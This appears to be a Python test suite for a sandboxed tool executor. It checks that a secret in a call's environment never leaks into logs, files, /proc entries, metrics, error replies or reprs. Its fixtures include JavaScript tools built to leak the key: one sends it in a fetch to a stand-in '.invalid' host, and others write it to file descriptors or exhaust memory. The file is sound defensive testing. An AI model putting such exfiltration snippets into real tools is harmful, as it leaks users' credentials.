"""Secrets in a call's env: they reach that one tool, and appear nowhere else, while it runs or afterwards."""

from __future__ import annotations

import asyncio
import contextlib
import json
import tempfile
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from tests.contract.tpmjs.served import Executor, Meeting, eventually, made_up, runners, tool
from tests.processes import until

from hutch.doors.tpmjs.calls import ToolCall
from hutch.npm.names import PackageSpec
from hutch.sandbox.profile import Profile

# In two parts, so that these files are no hits.
MARK = "hutch-secret-" + "mark"
ENV = {"SOME_API_KEY": MARK, "PLAIN": "x"}

SOURCES = {
    "succeeds": tool("return process.env.SOME_API_KEY.length"),
    "prints": tool("console.log(process.env.SOME_API_KEY); process.stderr.write(process.env.SOME_API_KEY)"),
    "throws": tool("throw new Error(process.env.SOME_API_KEY)"),
    "fails to import": tool("", "throw new Error(process.env.SOME_API_KEY);"),
    "is no tool": "export const tool = { [process.env.SOME_API_KEY]: 1 }",
    "never ends": tool("console.log(process.env.SOME_API_KEY); for (;;);"),
    "ends its process": tool("console.log(process.env.SOME_API_KEY); Deno.kill(Deno.pid, 'SIGKILL')"),
    "takes all memory": tool("const a = []; for (;;) a.push(new Uint8Array(1e7).fill(1))"),
    "names it to the network": tool("await fetch(`http://${process.env.SOME_API_KEY}.invalid/`)"),
    "is refused by the network": tool("await fetch(`http://127.0.0.1:1/${process.env.SOME_API_KEY}`)"),
    "says it to the runner": tool(
        "for (let fd = 1; fd < 9; fd++) try { fs.writeSync(fd, process.env.SOME_API_KEY) } catch {}",
        "import fs from 'node:fs';",
    ),
    "is a factory": "export const tool = ({ apiKey }) => apiKey && { execute: () => apiKey.length }",
}


@pytest.fixture(scope="module")
async def server(meet: Meeting) -> AsyncIterator[Executor]:
    """One that logs everything and keeps spares, whose folders are its own."""
    with tempfile.TemporaryDirectory(prefix="h-") as folder, tempfile.TemporaryDirectory() as home:
        settings = {"tool_timeout_ms": 1_500, "tool_memory_bytes": 128 * 2**20, "egress_allow": meet.address}
        variables = {"TMPDIR": folder, "XDG_RUNTIME_DIR": folder}
        log = {"log_level": "debug", "log_json": True}
        async with made_up(Path(home), variables, **settings, **log) as running:
            running.folders = (Path(folder), Path(home))
            yield running


def on_disk(folders: tuple[Path, ...]) -> list[str]:
    """Files that have the secret in them, or in their name."""
    found = []
    for folder in folders:
        for path in folder.rglob("*"):
            if MARK in path.name or (path.is_file() and MARK.encode() in path.read_bytes()):
                found.append(str(path))
    return found


def in_processes() -> Iterator[str]:
    """Processes of this machine whose arguments, environment or other papers have the secret in them."""
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ", "comm", "mountinfo", "cgroup", "stat", "wchan"):
            try:
                text = (process / name).read_bytes()
            except OSError:
                continue
            if MARK.encode() in text:
                yield f"{process / name}"


async def test_is_in_no_log_record_or_file(server: Executor) -> None:
    packages = [server.publish(source) for source in SOURCES.values()]
    # The second one may get a spare.
    for _ in range(2):
        answers = await asyncio.gather(*(server.execute(package, env=ENV) for package in packages))
        assert len({answer["runId"] for answer in answers}) == len(SOURCES)
    # The records themselves are there.
    await eventually(lambda: str(server.server.seen).count('"event": "run"') == 2 * len(SOURCES))
    assert [line for line in server.server.seen if MARK in line] == []
    assert on_disk(server.folders) == []
    assert MARK not in (await server.client.get("/metrics")).text
    assert MARK not in (await server.client.get("/info")).text


async def test_is_in_no_process_list_while_the_tool_runs_or_waits(server: Executor, meet: Meeting) -> None:
    package = server.publish(
        tool(
            "await fetch(params.meet + '/said/secret-runs'); await fetch(params.meet + '/wait/secret-looked')"
        )
    )
    calling = asyncio.create_task(server.execute(package, params={"meet": meet.url}, env=ENV))
    await meet.said("secret-runs")
    assert len(runners(server.pid)) > 0
    assert [*in_processes()] == []
    assert on_disk(server.folders) == []
    meet.let_go("secret-looked")
    assert (await calling)["success"] is True
    # Now a spare has it.
    await asyncio.to_thread(until, lambda: runners(server.pid))
    assert [*in_processes()] == []


async def test_answer_to_one_caller_is_what_its_tool_said(server: Executor) -> None:
    """The secret is its caller's own: of what a tool says, nothing is taken away."""
    answer = await server.run(SOURCES["throws"], env=ENV)
    assert answer["error"]["message"] == MARK
    answer = await server.run(SOURCES["prints"], env=ENV)
    assert answer["logs"] == [MARK, MARK]


async def test_request_that_is_refused_does_not_repeat_it(server: Executor) -> None:
    request = {"packageName": "x", "name": "tool", "env": {"KEY": MARK, "OTHER": 7, "BAD": f"{MARK}\0"}}
    answer = await server.post("/execute-tool", request)
    assert answer.status_code == 400
    assert "env.OTHER: expected a string, got a number" in answer.text
    assert MARK not in answer.text
    answer = await server.client.post("/execute-tool", content=json.dumps(request)[:-3].encode())
    assert answer.status_code == 400
    assert MARK not in answer.text
    assert [line for line in server.server.seen if MARK in line] == []


async def test_server_holds_no_file_open_that_has_it(server: Executor) -> None:
    """What a runner is told comes from a file that is nowhere, and is closed once it was given."""
    await server.run(SOURCES["succeeds"], env=ENV)
    # It may be giving one to the next spare at this moment.
    await asyncio.to_thread(until, lambda: held(server.pid) == [])


def held(pid: int) -> list[str]:
    """Files in memory that a process has open and that have the secret in them."""
    found = []
    for handle in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(FileNotFoundError):
            where = str(handle.readlink())
            if where.startswith("/memfd:") and MARK.encode() in handle.read_bytes():
                found.append(where)
    return found


def test_nothing_that_is_shown_has_it() -> None:
    call = ToolCall(spec=PackageSpec("x", "1.0.0"), name="tool", env=ENV, caller="key")
    assert "SOME_API_KEY" in repr(call)
    profile = Profile("npm", told=json.dumps({"env": ENV}).encode(), env=(("A", MARK),), owner="key")
    for shown in (call, profile, [call], {"call": call}, (profile,)):
        assert MARK not in f"{shown!r} {shown}"
